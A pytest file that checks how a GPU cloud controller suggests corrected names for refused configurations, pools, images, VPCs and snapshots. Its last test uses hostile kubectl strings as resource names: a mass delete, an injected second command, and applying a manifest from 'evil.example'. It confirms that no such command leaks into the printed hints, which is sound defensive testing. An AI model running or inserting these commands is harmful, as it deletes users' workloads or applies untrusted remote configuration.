"""What the cloud refuses is compared with the names that it has shown: the message suggests one, or lists them."""

from __future__ import annotations

import pytest

from gpucloud.reconcile.commands import has_command
from gpucloud.reconcile.gpuvm.misnamed import KnownNames, corrections
from gpucloud.spelling import MOST_COMPARED, nearest, suggestion
from support.builders import a_spec

SMALL, LARGE, OTHER = "A100_40GB_PCIe_1x", "A100_40GB_PCIe_2x", "H100_80GB_SXM_8x"
KNOWN = KnownNames((SMALL, LARGE, OTHER), ("on-demand", "reserved-acme"), ("Ubuntu_22.04.4_LTS", "golden.qcow2"))
REFUSED = "it is refused"

# what, spec, what is known, the cloud's words, the sentence
CASES = [
    ("a slip of the pen", {"configuration": "A100_40GB_PCIe_x1"}, KNOWN, REFUSED, f"Did you mean configuration '{SMALL}'?"),
    (
        "two are equally near",
        {"configuration": "A100_40GB_PCIe_3x"},
        KNOWN,
        REFUSED,
        f"Did you mean configuration '{SMALL}' or '{LARGE}'?",
    ),
    (
        "it is offered elsewhere",
        {"configuration": OTHER},
        KnownNames((SMALL, LARGE), elsewhere=("Hou1", "Lon1")),
        REFUSED,
        f"Clusters that offer '{OTHER}': Hou1, Lon1.",
    ),
    ("another letter case", {"configuration": SMALL.lower()}, KNOWN, REFUSED, f"Did you mean configuration '{SMALL}'?"),
    ("nothing is near", {"configuration": "tpu"}, KNOWN, REFUSED, f"Configurations offered: {SMALL}, {LARGE}, {OTHER}."),
    (
        "nothing is near, and many are known",
        {"configuration": "tpu"},
        KnownNames(tuple("abcdefg")),
        REFUSED,
        "Configurations offered: a, b, c, d, e and 2 more.",
    ),
    ("it is offered, so something else is wrong", {"configuration": SMALL}, KNOWN, REFUSED, ""),
    ("the catalogue is not known", {"configuration": "tpu"}, KnownNames(), REFUSED, ""),
    ("a pool", {"resourcePool": "reserved-acm"}, KNOWN, "Pool reserved-acm?", "Did you mean resource pool 'reserved-acme'?"),
    ("no pool like it", {"resourcePool": "x"}, KNOWN, "x?", "Resource pools seen: on-demand, reserved-acme."),
    ("a pool that the cloud does not complain of", {"resourcePool": "new"}, KNOWN, REFUSED, ""),
    ("a pool that was seen", {"resourcePool": "on-demand"}, KNOWN, "on-demand is full", ""),
    (
        "an image, as orders spell it",
        {"image": {"operatingSystem": "Ubuntu 22.04.5 LTS"}},
        KNOWN,
        'Image "Ubuntu 22.04.5 LTS" is unknown.',
        "Did you mean image 'Ubuntu 22.04.4 LTS'?",
    ),
    (
        "an image that VMs use, spelt otherwise",
        {"image": {"operatingSystem": "Ubuntu 22.04.4 LTS"}},
        KNOWN,
        'Image "Ubuntu 22.04.4 LTS" is unknown.',
        "",
    ),
    (
        "an image, as statuses and listings spell it",
        {"image": {"operatingSystem": "Ubuntu_22.04.4_LTS"}},
        KNOWN,
        'Image "Ubuntu_22.04.4_LTS" is unknown.',
        "Did you mean image 'Ubuntu 22.04.4 LTS'?",
    ),
    (
        "a slip in an image that is spelt as in listings",
        {"image": {"operatingSystem": "Ubuntu_22.04.5_LTS"}},
        KNOWN,
        'Image "Ubuntu_22.04.5_LTS" is unknown.',
        "Did you mean image 'Ubuntu 22.04.4 LTS'?",
    ),
    (
        "an image, as listings spell it, where none may be shown",
        {"image": {"operatingSystem": "Ubuntu_22.04.4_LTS"}},
        KnownNames(),
        'Image "Ubuntu_22.04.4_LTS" is unknown.',
        "Did you mean image 'Ubuntu 22.04.4 LTS'?",
    ),
    ("an image that may be new", {"image": {"operatingSystem": "Debian 13"}}, KNOWN, REFUSED, ""),
    (
        "a VPC",
        {"vpc": "acme-lap"},
        KnownNames(vpcs=("acme", "acme-lab")),
        'VPC "acme-lap" does not exist.',
        "Did you mean VPC 'acme-lab'?",
    ),
    ("no VPC like it", {"vpc": "x"}, KnownNames(vpcs=("acme", "globex")), "x?", "VPCs seen: acme, globex."),
    ("a VPC that the cloud does not complain of", {"vpc": "acme-new"}, KnownNames(vpcs=("acme",)), REFUSED, ""),
    ("a VPC that was seen", {"vpc": "acme"}, KnownNames(vpcs=("acme",)), "acme is full", ""),
    ("a file", {"image": {"customFile": "golden.qcow"}}, KNOWN, "no golden.qcow", "Did you mean image 'golden.qcow2'?"),
    (
        "no file like it: operating systems are none",
        {"image": {"customFile": "x.img"}},
        KNOWN,
        "no x.img",
        "Image files cannot be listed: check the name.",
    ),
    (
        "a file of another VM",
        {"image": {"customFile": "golden.qcow"}},
        KnownNames(files=("golden.qcow2",)),
        "no golden.qcow",
        "Did you mean image 'golden.qcow2'?",
    ),
    (
        "no file like those of other VMs",
        {"image": {"customFile": "x.img"}},
        KnownNames(images=("Ubuntu_22.04.4_LTS",), files=("golden.qcow2", "nightly.qcow2")),
        "no x.img",
        "Image files in use: golden.qcow2, nightly.qcow2.",
    ),
    ("a file that another VM has", {"image": {"customFile": "x.img"}}, KnownNames(files=("x.img",)), "x.img is large", ""),
    ("a file that the cloud does not complain of", {"image": {"customFile": "x.img"}}, KnownNames(), REFUSED, ""),
    (
        "a snapshot",
        {"image": {"snapshot": "golden"}},
        KnownNames(snapshots=("golden-1", "nightly")),
        '"golden" not found',
        "The snapshot must be in the VM's VPC and cluster. Did you mean snapshot 'golden-1'?",
    ),
    (
        "a snapshot by the name of its object",
        {"image": {"snapshot": "golden"}},
        KnownNames(snapshots=("golden-tagaa-abc",), is_object=True),
        '"golden" not found',
        "Name GpuSnapshot 'golden' in spec.image.snapshotRef.name.",
    ),
    (
        "a snapshot, and none is known",
        {"image": {"snapshot": "golden"}},
        KnownNames(),
        '"golden" not found',
        "The snapshot must be in the VM's VPC and cluster.",
    ),
    ("a snapshot that the cloud does not complain of", {"image": {"snapshot": "golden"}}, KnownNames(), REFUSED, ""),
    (
        "a snapshot that is there",
        {"image": {"snapshot": "golden"}},
        KnownNames(snapshots=("golden",)),
        "golden is being taken",
        "",
    ),
    (
        "two at once",
        {"configuration": "A100_40GB_PCIe_x1", "resourcePool": "reserved-acm"},
        KNOWN,
        "no reserved-acm",
        f"Did you mean configuration '{SMALL}'? Did you mean resource pool 'reserved-acme'?",
    ),
]


@pytest.mark.parametrize(("spec", "known", "words", "sentence"), [row[1:] for row in CASES], ids=[row[0] for row in CASES])
def test_a_name_that_the_cloud_does_not_know_is_corrected(spec, known, words, sentence):
    assert corrections(a_spec(**spec), known, words).strip() == sentence


def test_a_name_far_from_all_suggests_nothing():
    assert (nearest("tpu", ("Hou1", "Msc1")), suggestion("tpu", ())) == ((), "")
    assert suggestion("msc-1", ("Hou1", "Msc1")) == " Did you mean 'Msc1'?"


def test_too_many_names_suggest_nothing_since_each_reconcile_would_compare_them():
    """The bound is of the question, so no caller has to remember it; who looks once asks for the nearest."""
    some = tuple(f"other{number}" for number in range(MOST_COMPARED - 1))
    assert suggestion("msc-1", ("Msc1", "Msc1", *some)) == " Did you mean 'Msc1'?"
    assert suggestion("msc-1", ("Msc1", *some, "one-more")) == ""
    assert nearest("msc-1", ("Msc1", *some, "one-more")) == ("Msc1",)


def test_names_beyond_any_status_suggest_nothing():
    assert nearest("x" * 10_000, ("x" * 9_999,)) == ()


EVIL = "kubectl delete gvm --all --namespace=team"


@pytest.mark.parametrize("lists", ["configurations", "pools", "images", "elsewhere", "vpcs", "snapshots", "files"])
@pytest.mark.parametrize("name", [EVIL, f"{EVIL}; Z", f"x: {EVIL}", "kubectl apply -f https://evil.example/x.yaml"])
def test_a_name_that_somebody_else_chose_is_no_command(lists, name):
    """A VPC, an image or another VM's file may have any name; the plugin prints commands to paste, with options added."""
    wanted = {"vpc": "no-vpc", "resourcePool": "no-pool", "configuration": "no-offer"}
    words = "no-vpc no-pool no-os no-file no-snapshot"
    for image in ({"operatingSystem": "no-os"}, {"customFile": "no-file"}, {"snapshot": "no-snapshot"}):
        told = corrections(a_spec(**wanted, image=image), KnownNames(**{lists: (name,)}), words)
        assert not has_command(told), told
